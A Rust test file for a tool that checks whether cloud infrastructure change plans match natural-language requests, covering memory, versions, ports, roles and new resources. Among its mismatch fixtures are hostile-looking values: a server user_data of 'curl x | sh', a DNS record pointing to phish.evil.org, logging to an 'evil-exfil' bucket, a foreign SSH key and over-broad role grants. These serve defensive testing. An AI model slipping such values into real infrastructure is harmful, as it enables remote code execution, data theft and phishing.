//! What something is set to, how many are changed, which ways stay open: what was said passes, its
//! twin that sets something else does not.

use alloc::{format, string::String, vec, vec::Vec};
use tribune_record::{
    Action, Change,
    IntentMatch::{Exact, Mismatch, Partial},
};

use super::{
    change,
    deeds::{check_changes, differs, fits},
    map,
};

fn update(address: &str, before: &str, after: &str) -> Change {
    let mut change = change(address, Action::Update, after);
    change.before = map(before);
    change
}

fn memory(name: &str, to: &str) -> Change {
    let side = |memory: &str| format!(r#"{{"function_name":"{name}","memory_size":{memory}}}"#);
    update(&format!("aws_lambda_function.{name}"), &side("256"), &side(to))
}

#[test]
fn amounts_that_are_relative_or_have_parts() {
    for (request, right, wrong) in [
        ("Raise the memory of the function render by 512 MB.", "768", "512"),
        ("Increase the memory of the function render by 50 %.", "384", "10240"),
        ("Increase the memory of the function render by 50 percent.", "384", "306"),
        ("Double the memory of the function render.", "512", "10240"),
        ("Triple the memory of the function render.", "768", "512"),
        ("Halve the memory of the function render.", "128", "64"),
        ("Set the memory of the function render to 1.5 GB.", "1536", "10240"),
        ("Raise the memory of the function render to no more than 512 MB.", "512", "3008"),
        ("Raise the memory of the function render, at most to 512 MB.", "512", "3008"),
        ("Raise the memory of the function render to at least 512 MB.", "512", "300"),
        ("Raise the memory of the function render to 512 MB.", "512", "null"),
    ] {
        check_changes(request, vec![memory("render", right)], Exact);
        check_changes(request, vec![memory("render", wrong)], Partial);
    }
    check_changes(
        "Halve the memory of the function render.",
        vec![memory("render", "1024")],
        Mismatch,
    );
}

/// One attribute of one object, from one text to another.
fn text((address, name, key): (&str, &str, &str), from: &str, to: &str) -> Vec<Change> {
    let side = |value: &str| format!(r#"{{{name},"{key}":"{value}"}}"#);
    vec![update(address, &side(from), &side(to))]
}

#[test]
fn versions_words_and_times_of_day() {
    let render = ("aws_lambda_function.r", r#""function_name":"render""#, "runtime");
    let orders = ("aws_db_instance.o", r#""identifier":"orders""#, "engine_version");
    let rule = ("aws_cloudwatch_event_rule.n", r#""name":"nightly""#, "schedule_expression");
    let account = ("azurerm_storage_account.e", r#""name":"exports""#, "min_tls_version");
    for (request, object, from, right, wrong) in [
        (
            "Move the render function to python3.12.",
            render,
            "python3.9",
            "python3.12",
            "nodejs12.x",
        ),
        ("Upgrade the database orders to version 15.8.", orders, "14.7", "15.8", "17.2"),
        ("Upgrade the database orders to version 15.", orders, "14.7", "15.8", "17.15"),
        (
            "Change the schedule of the EventBridge rule nightly to 03:00.",
            rule,
            "cron(0 2 * * ? *)",
            "cron(0 3 * * ? *)",
            "rate(1 minute)",
        ),
        (
            "Set the minimum TLS version of the storage account exports to 1.2.",
            account,
            "TLS1_1",
            "TLS1_2",
            "TLS1_0",
        ),
    ] {
        check_changes(request, text(object, from, right), Exact);
        check_changes(request, text(object, from, wrong), Partial);
    }
    let request = "Set LOG_LEVEL to debug on the function render.";
    let side = |level: &str| {
        format!(
            r#"{{"function_name":"render",
                "environment":[{{"variables":{{"LOG_LEVEL":"{level}"}}}}]}}"#
        )
    };
    let set = |to: &str| vec![update("aws_lambda_function.r", &side("info"), &side(to))];
    check_changes(request, set("debug"), Exact);
    check_changes(request, set("off"), Partial);
}

#[test]
fn no_more_objects_than_were_meant() {
    let three = || ["render", "mail", "thumbs"].map(|name| memory(name, "512")).into();
    let two = || ["render", "mail"].map(|name| memory(name, "512")).into();
    check_changes("Raise the memory of two functions to 512 MB.", two(), Exact);
    check_changes("Raise the memory of two functions to 512 MB.", three(), Partial);
    check_changes("Raise the memory of a function to 512 MB.", two(), Partial);
    check_changes(
        "Raise the memory of the function render to 512 MB.",
        vec![memory("render", "512")],
        Exact,
    );
    check_changes("Raise the memory of every function to 512 MB.", three(), Exact);
    check_changes("Raise the memory of all functions to 512 MB.", three(), Exact);
    let both = "Raise the memory of the function render to 512 MB. Raise the memory of the \
                function \
                mail to 1024 MB.";
    check_changes(both, vec![memory("render", "512"), memory("mail", "1024")], Exact);
    check_changes(both, vec![memory("render", "512")], Partial);
    check_changes(both, vec![memory("render", "1024"), memory("mail", "512")], Partial);
}

#[test]
fn servers_are_scaled_one_by_one() {
    let servers = |name: &str, count: u32| -> Vec<Change> {
        let one = |at| {
            let object = format!(r#"{{"tags":{{"Name":"{name}-{at}"}}}}"#);
            change(&format!("aws_instance.x{at}"), Action::Create, &object)
        };
        (0..count).map(one).collect()
    };
    let request = "Scale the web servers from 2 to 4.";
    check_changes(request, servers("web", 2), Exact);
    check_changes(request, servers("web", 10), Partial);
    let request = "Scale the build servers from 2 to 4.";
    check_changes(request, servers("build", 2), Exact);
    check_changes(request, servers("miner", 2), Partial);
}

#[test]
fn what_is_new_is_set_as_it_was_asked_for() {
    const CREATE: Action = Action::Create;
    let function = |memory: u32| format!(r#"{{"function_name":"thumbs","memory_size":{memory}}}"#);
    let request = "Create a lambda function called thumbs with 512 MB of memory.";
    fits(request, &[("aws_lambda_function.t", CREATE, &function(512))]);
    differs(request, &[("aws_lambda_function.t", CREATE, &function(10240))]);
    let group = |days: u32| format!(r#"{{"name":"orders","retention_in_days":{days}}}"#);
    let request = "Create a log group called orders with a retention of 365 days.";
    fits(request, &[("aws_cloudwatch_log_group.o", CREATE, &group(365))]);
    differs(request, &[("aws_cloudwatch_log_group.o", CREATE, &group(1))]);
    let bucket = ("aws_s3_bucket.r", CREATE, r#"{"bucket":"acme-reports"}"#);
    let versioning = |status: &str| {
        format!(
            r#"{{"bucket":"acme-reports","versioning_configuration":[{{"status":"{status}"}}]}}"#
        )
    };
    let request = "Create a bucket called acme-reports with versioning.";
    let part = "aws_s3_bucket_versioning.r";
    fits(request, &[bucket, (part, CREATE, &versioning("Enabled"))]);
    differs(request, &[bucket]);
    let queue = |name: &str, more: &str| format!(r#"{{"name":"{name}"{more}}}"#);
    let request = "Create a FIFO queue called invoices.";
    fits(request, &[("aws_sqs_queue.i", CREATE, &queue("invoices", r#","fifo_queue":true"#))]);
    differs(request, &[("aws_sqs_queue.i", CREATE, &queue("invoices", ""))]);
    let request = "Create an invoices queue.";
    fits(request, &[("aws_sqs_queue.i", CREATE, &queue("prod-invoices", ""))]);
    differs(request, &[("aws_sqs_queue.i", CREATE, &queue("exfil-payroll", ""))]);
}

#[test]
fn what_was_named_as_the_target_is_the_target() {
    const CREATE: Action = Action::Create;
    let record = |to: &str| format!(r#"{{"name":"docs.example.com","records":["{to}"]}}"#);
    let dns = "aws_route53_record.docs";
    let request = "Add a CNAME docs.example.com pointing to docs.cdn.example.net.";
    fits(request, &[(dns, CREATE, &record("docs.cdn.example.net"))]);
    differs(request, &[(dns, CREATE, &record("phish.evil.org"))]);
    let request = "Create a DNS record docs.example.com for 10.0.0.5.";
    fits(request, &[(dns, CREATE, &record("10.0.0.5"))]);
    differs(request, &[(dns, CREATE, &record("203.0.113.66"))]);
    let logging = |to: &str| format!(r#"{{"bucket":"photos","target_bucket":"{to}"}}"#);
    let request = "Enable access logging on the bucket photos to the bucket acme-logs.";
    fits(request, &[("aws_s3_bucket_logging.p", CREATE, &logging("acme-logs"))]);
    differs(request, &[("aws_s3_bucket_logging.p", CREATE, &logging("evil-exfil"))]);
}

#[test]
fn what_something_new_hangs_on_is_named() {
    const CREATE: Action = Action::Create;
    let queue = |more: &str| format!(r#"{{"name":"invoices"{more}}}"#);
    let letters = r#","redrive_policy":"{\"deadLetterTargetArn\":\"arn:aws:sqs:x:1:other\"}""#;
    let own = r#","redrive_policy":"{\"deadLetterTargetArn\":\"arn:aws:sqs:x:1:invoices-dlq\"}""#;
    let request = "Create a queue called invoices.";
    fits(request, &[("aws_sqs_queue.i", CREATE, &queue(""))]);
    fits(request, &[("aws_sqs_queue.i", CREATE, &queue(own))]);
    differs(request, &[("aws_sqs_queue.i", CREATE, &queue(letters))]);
    let server = |more: &str| format!(r#"{{"tags":{{"Name":"build-2"}}{more}}}"#);
    let request = "Create a server called build-2.";
    fits(request, &[("aws_instance.b", CREATE, &server(""))]);
    differs(request, &[("aws_instance.b", CREATE, &server(r#","key_name":"eve-laptop""#))]);
    differs(request, &[("aws_instance.b", CREATE, &server(r#","user_data":"curl x | sh""#))]);
}

#[test]
fn one_way_is_opened_or_closed_and_no_other() {
    let rule = |port: u16, protocol: &str| {
        format!(
            r#"{{"from_port":{port},"to_port":{port},"protocol":"{protocol}",
                "cidr_blocks":["10.2.0.0/16"]}}"#
        )
    };
    let group = |rules: &[String]| format!(r#"{{"name":"web","ingress":[{}]}}"#, rules.join(","));
    let (web, ssh, new) = (rule(443, "tcp"), rule(22, "tcp"), rule(8443, "tcp"));
    let before = group(&[web.clone(), ssh.clone()]);
    let to = |rules: &[String]| vec![update("aws_security_group.web", &before, &group(rules))];
    let open = "Open port 8443 on the web security group from 10.2.0.0/16.";
    check_changes(open, to(&[web.clone(), ssh.clone(), new.clone()]), Exact);
    check_changes(open, to(&[new]), Partial);
    check_changes(open, to(&[web.clone(), ssh.clone(), rule(8443, "udp")]), Partial);
    let datagrams = "Open udp port 8443 on the web security group from 10.2.0.0/16.";
    check_changes(datagrams, to(&[web.clone(), ssh.clone(), rule(8443, "udp")]), Exact);
    let close = "Close port 22 on the web security group.";
    check_changes(close, to(&[web]), Exact);
    check_changes(close, to(&[ssh]), Partial);
}

#[test]
fn what_is_refused_stays_refused() {
    let side = |priority: u32, direction: &str| {
        format!(
            r#"{{"name":"web","access":"Deny","priority":{priority},"direction":"{direction}",
                "destination_port_range":"22"}}"#
        )
    };
    let block = "Block port 22 on the network security group web.";
    let rule = "azurerm_network_security_rule.ssh";
    for after in [side(4096, "Inbound"), side(100, "Outbound")] {
        check_changes(block, vec![update(rule, &side(100, "Inbound"), &after)], Partial);
    }
}

#[test]
fn better_is_not_weaker() {
    let side = |drop: bool| format!(r#"{{"name":"web","drop_invalid_header_fields":{drop}}}"#);
    let harden = "Harden the load balancer web.";
    check_changes(harden, vec![update("aws_lb.web", &side(false), &side(true))], Exact);
    check_changes(harden, vec![update("aws_lb.web", &side(true), &side(false))], Partial);
    let side = |on: bool, topics: &str| {
        format!(r#"{{"alarm_name":"cpu","actions_enabled":{on},"alarm_actions":[{topics}]}}"#)
    };
    let fix = "Fix the alarm cpu.";
    let alarm =
        |after: &str| vec![update("aws_cloudwatch_metric_alarm.c", &side(true, r#""t""#), after)];
    check_changes(fix, alarm(&side(false, r#""t""#)), Partial);
    check_changes(fix, alarm(&side(true, "")), Partial);
    let side = |version: &str| format!(r#"{{"node_group_name":"main","version":"{version}"}}"#);
    let patch = "Patch the EKS node group main.";
    let nodes = |to: &str| vec![update("aws_eks_node_group.main", &side("1.30"), &side(to))];
    check_changes(patch, nodes("1.31"), Exact);
    check_changes(patch, nodes("1.28"), Partial);
}

#[test]
fn a_role_of_azure_reaches_what_was_asked_for() {
    let assigned = |role: &str, to: &str, who: &str| {
        let scope = format!("/subscriptions/1{to}");
        let object = format!(
            r#"{{"scope":"{scope}","role_definition_name":"{role}","principal_id":"{who}"}}"#
        );
        vec![change("azurerm_role_assignment.x", Action::Create, &object)]
    };
    let account = "/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/exports";
    let request = "Grant Bob read access to the exports storage account.";
    let reader = "Storage Blob Data Reader";
    check_changes(request, assigned(reader, account, "bob"), Exact);
    check_changes(request, assigned("Storage Blob Data Owner", account, "bob"), Mismatch);
    check_changes(request, assigned(reader, "", "bob"), Mismatch);
    check_changes(request, assigned(reader, account, "eve"), Mismatch);
    let group = "/resourceGroups/rg";
    let role = "Give the deploy role read access in development.";
    check_changes(role, assigned("Reader", group, "9c5d"), Exact);
    check_changes(role, assigned("Reader", "", "9c5d"), Partial);
    check_changes(role, assigned("Owner", group, "9c5d"), Mismatch);
    let unknown = "00000000-1111-2222-3333-444444444444";
    check_changes(request, assigned(reader, account, unknown), Partial);
}

#[test]
fn a_switch_is_no_version() {
    let side = |tls: &str, https: bool| {
        format!(
            r#"{{"name":"exports","min_tls_version":"{tls}","https_traffic_only_enabled":{https}}}"#
        )
    };
    let request = "Set the minimum TLS version of the storage account exports to 1.2.";
    let account = |https: bool| {
        let after = side("TLS1_2", https);
        vec![update("azurerm_storage_account.e", &side("TLS1_1", true), &after)]
    };
    check_changes(request, account(true), Exact);
    check_changes(request, account(false), Partial);
}

#[test]
fn a_key_of_another_account() {
    let side = |key: &str| {
        format!(r#"{{"name":"orders","arn":"arn:aws:sqs:x:123456789012:orders","kms_key":{key}}}"#)
    };
    let key = |account: &str| side(&format!(r#""arn:aws:kms:x:{account}:key/abc""#));
    let to = |after: &str| vec![update("aws_sqs_queue.o", &side("null"), after)];
    check_changes("Encrypt the queue orders.", to(&key("123456789012")), Exact);
    check_changes("Encrypt the queue orders.", to(&key("666666666666")), Partial);
}

#[test]
fn each_of_several_by_bare_words() {
    let request = "Raise the memory of the functions render and thumbs to 512 MB.";
    let both = vec![memory("render", "512"), memory("thumbs", "512")];
    check_changes(request, both, Exact);
    check_changes(request, vec![memory("render", "512")], Partial);
}

#[test]
fn who_may_become_a_new_role() {
    const CREATE: Action = Action::Create;
    let role = |services: &str| {
        let who = format!(r#"\"Principal\":{{\"Service\":[{services}]}}"#);
        let what = r#"\"Action\":\"sts:AssumeRole\""#;
        let document = format!(r#"{{\"Statement\":[{{\"Effect\":\"Allow\",{who},{what}}}]}}"#);
        format!(r#"{{"name":"thumbs","assume_role_policy":"{document}"}}"#)
    };
    let function = ("aws_lambda_function.t", CREATE, r#"{"function_name":"thumbs"}"#);
    let request = "Create a lambda function called thumbs.";
    let lambda = role(r#"\"lambda.amazonaws.com\""#);
    fits(request, &[function, ("aws_iam_role.t", CREATE, &lambda)]);
    let more = role(r#"\"lambda.amazonaws.com\",\"ec2.amazonaws.com\""#);
    differs(request, &[function, ("aws_iam_role.t", CREATE, &more)]);
}

#[test]
fn what_a_new_database_runs() {
    let database = |engine: &str| format!(r#"{{"identifier":"orders","engine":"{engine}"}}"#);
    let orders = "aws_db_instance.orders";
    let request = "Create a postgres database called orders.";
    fits(request, &[(orders, Action::Create, &database("postgres"))]);
    fits(request, &[(orders, Action::Create, &database("aurora-postgresql"))]);
    differs(request, &[(orders, Action::Create, &database("mysql"))]);
}

#[test]
fn what_is_attached_is_tied_to_what_was_named() {
    const CREATE: Action = Action::Create;
    let tie = |to: &str| format!(r#"{{"volume_id":"vol-1","instance_id":"{to}"}}"#);
    let request = "Attach the volume 'vol-1' to the server 'i-0fedcba9876543210'.";
    let kind = "aws_volume_attachment.x";
    fits(request, &[(kind, CREATE, &tie("i-0fedcba9876543210"))]);
    differs(request, &[(kind, CREATE, &tie("i-0123456789abcdef0"))]);
    let volume = r#"{"id":"data-1","size":900}"#;
    let both = [(kind, CREATE, &*tie("i-0fedcba9876543210")), ("aws_ebs_volume.d", CREATE, volume)];
    super::deeds::exceeds(request, &both);
    // Nobody can tell whose these ids are.
    let request = "Attach the volume data-1 to the build server.";
    differs(request, &[(kind, CREATE, &tie("i-0fedcba9876543210"))]);
}

#[test]
fn a_part_is_an_aspect_of_what_it_belongs_to() {
    let side = |more: &str| format!(r#"{{"identifier":"orders","engine_version":"15.4"{more}}}"#);
    let request = "Turn on storage autoscaling up to 200 GB for the orders db";
    let database = |after: &str| vec![update("aws_db_instance.o", &side(""), after)];
    let storage = |gb: u32| side(&format!(r#","max_allocated_storage":{gb}"#));
    check_changes(request, database(&storage(200)), Exact);
    check_changes(request, database(&storage(4000)), Partial);
    check_changes(request, database(&side(r#","publicly_accessible":true"#)), Mismatch);
}

#[test]
fn a_setting_that_a_new_thing_comes_with() {
    let cluster = |private: bool| {
        format!(r#"{{"name":"prod-core","vpc_config":[{{"endpoint_private_access":{private}}}]}}"#)
    };
    let request = "Create a Kubernetes cluster prod-core in production with a private endpoint.";
    fits(request, &[("aws_eks_cluster.c", Action::Create, &cluster(true))]);
    differs(request, &[("aws_eks_cluster.c", Action::Create, &cluster(false))]);
    let table = |replica: &str| format!(r#"{{"name":"profiles","replica":[{replica}]}}"#);
    let request = "Create a table profiles with a replica in eu-west-1.";
    let there = table(r#"{"region_name":"eu-west-1"}"#);
    fits(request, &[("aws_dynamodb_table.t", Action::Create, &there)]);
    differs(request, &[("aws_dynamodb_table.t", Action::Create, &table(""))]);
}

#[test]
fn what_only_bears_a_name() {
    let side = |ttl: u32, to: &str| {
        format!(r#"{{"name":"shop.example.com","ttl":{ttl},"records":["{to}"]}}"#)
    };
    let record = |after: &str| vec![update("aws_route53_record.s", &side(300, "a"), after)];
    let request = "Lower the TTL of shop.example.com to 60";
    check_changes(request, record(&side(60, "a")), Exact);
    check_changes(request, record(&side(60, "b")), Mismatch);
    check_changes(request, record(&side(30, "a")), Partial);
}

#[test]
fn two_amounts_of_one_clause_keep_apart() {
    let side = |memory: u32, timeout: u32| {
        format!(r#"{{"function_name":"render","memory_size":{memory},"timeout":{timeout}}}"#)
    };
    let to = |memory, timeout| {
        vec![update("aws_lambda_function.r", &side(256, 3), &side(memory, timeout))]
    };
    let request =
        "Raise the memory of the function render to 512 MB and the timeout to 60 seconds.";
    check_changes(request, to(512, 60), Exact);
    for (memory, timeout) in [(512, 512), (512, 3), (1024, 60)] {
        check_changes(request, to(memory, timeout), Partial);
    }
    check_changes(request, to(60, 512), Mismatch);
}

#[test]
fn what_is_paused_does_not_run() {
    let side = |state: &str| format!(r#"{{"name":"nightly-report","state":"{state}"}}"#);
    let rule =
        |from: &str, to: &str| vec![update("aws_cloudwatch_event_rule.n", &side(from), &side(to))];
    let request = "Pause the nightly-report schedule";
    check_changes(request, rule("ENABLED", "DISABLED"), Exact);
    check_changes(request, rule("DISABLED", "ENABLED"), Mismatch);
}

#[test]
fn something_new_works_and_watches_what_was_named() {
    const CREATE: Action = Action::Create;
    let alarm = |of: &str, on: bool| {
        format!(
            r#"{{"alarm_name":"orders-cpu","threshold":80,"actions_enabled":{on},
                "comparison_operator":"GreaterThanThreshold",
                "dimensions":{{"DBInstanceIdentifier":"{of}"}}}}"#
        )
    };
    let request = "Create a CloudWatch alarm when CPU of the orders database is above 80%.";
    let kind = "aws_cloudwatch_metric_alarm.c";
    fits(request, &[(kind, CREATE, &alarm("orders", true))]);
    differs(request, &[(kind, CREATE, &alarm("payroll", true))]);
    differs(request, &[(kind, CREATE, &alarm("orders", false))]);
    let inverted = alarm("orders", true).replace("Greater", "Less");
    differs(request, &[(kind, CREATE, &inverted)]);
    let rule = |at: &str| format!(r#"{{"name":"nightly","schedule_expression":"{at}"}}"#);
    let request = "Create an EventBridge rule called nightly that runs every 5 minutes.";
    let kind = "aws_cloudwatch_event_rule.n";
    fits(request, &[(kind, CREATE, &rule("rate(5 minutes)"))]);
    differs(request, &[(kind, CREATE, &rule("rate(1 minute)"))]);
    let queue = |s: u32| format!(r#"{{"name":"invoices","message_retention_seconds":{s}}}"#);
    let request = "Create a queue called invoices that keeps messages for 14 days.";
    fits(request, &[("aws_sqs_queue.i", CREATE, &queue(1_209_600))]);
    differs(request, &[("aws_sqs_queue.i", CREATE, &queue(60))]);
    let record = |to: &str| format!(r#"{{"name":"docs.example.com","records":["{to}"]}}"#);
    let request = "Create a CNAME docs.example.com for docs.cdn.example.net.";
    fits(request, &[("aws_route53_record.d", CREATE, &record("docs.cdn.example.net"))]);
    differs(request, &[("aws_route53_record.d", CREATE, &record("phish.evil.org"))]);
}

#[test]
fn a_minor_version_is_no_major_one() {
    let orders = ("aws_db_instance.o", r#""identifier":"orders""#, "engine_version");
    for request in [
        "Upgrade the orders database to the latest minor version.",
        "Upgrade the minor version of the orders database.",
    ] {
        check_changes(request, text(orders, "14.7", "14.12"), Exact);
        check_changes(request, text(orders, "14.7", "17.2"), Partial);
    }
}

#[test]
fn numbers_at_the_end_of_what_can_be_counted() {
    let most = r#""-170141183460469231731687303715884105""#;
    for request in [
        "Increase the memory of the function render by 50 %.",
        "Raise the memory of the function render by 512 MB.",
        "Triple the memory of the function render.",
    ] {
        check_changes(request, vec![memory("render", most)], Mismatch);
    }
}
